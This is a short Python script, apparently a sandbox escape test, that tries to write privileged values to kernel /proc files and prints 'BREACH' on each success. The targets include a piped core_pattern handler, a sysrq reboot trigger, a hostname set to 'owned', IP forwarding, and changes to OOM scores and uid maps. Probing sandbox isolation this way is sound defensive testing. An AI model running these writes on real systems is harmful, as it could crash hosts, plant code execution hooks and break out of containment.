# kind: kernel
# ends: ok
import os

for path, value in (
    ("/proc/sys/kernel/core_pattern", "|/box/x"),
    ("/proc/sys/kernel/hostname", "owned"),
    ("/proc/sys/vm/overcommit_memory", "1"),
    ("/proc/sys/vm/drop_caches", "3"),
    ("/proc/sys/net/ipv4/ip_forward", "1"),
    ("/proc/sysrq-trigger", "b"),
    ("/proc/self/oom_score_adj", "-1000"),
    ("/proc/self/oom_score_adj", "0"),
    ("/proc/1/oom_score_adj", "0"),
    ("/proc/self/uid_map", "0 0 1"),
    ("/proc/self/loginuid", "0"),
    ("/proc/1/setgroups", "allow"),
):
    try:
        with open(path, "w") as file:
            file.write(value)
    except OSError:
        continue
    print("BREACH: wrote", path)
